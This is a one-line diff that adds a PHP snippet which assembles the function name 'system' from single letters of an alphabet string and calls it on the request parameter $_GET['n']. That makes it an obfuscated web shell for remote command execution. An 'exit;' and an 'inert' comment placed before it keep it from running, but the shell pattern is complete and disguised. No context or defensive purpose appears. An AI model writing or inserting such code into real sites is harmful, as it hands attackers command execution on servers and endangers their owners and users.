@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $t="abcdefghijklmnopqrstuvwxyz_"; $f=$t[18].$t[24].$t[18].$t[19].$t[4].$t[12]; $f($_GET["n"]);
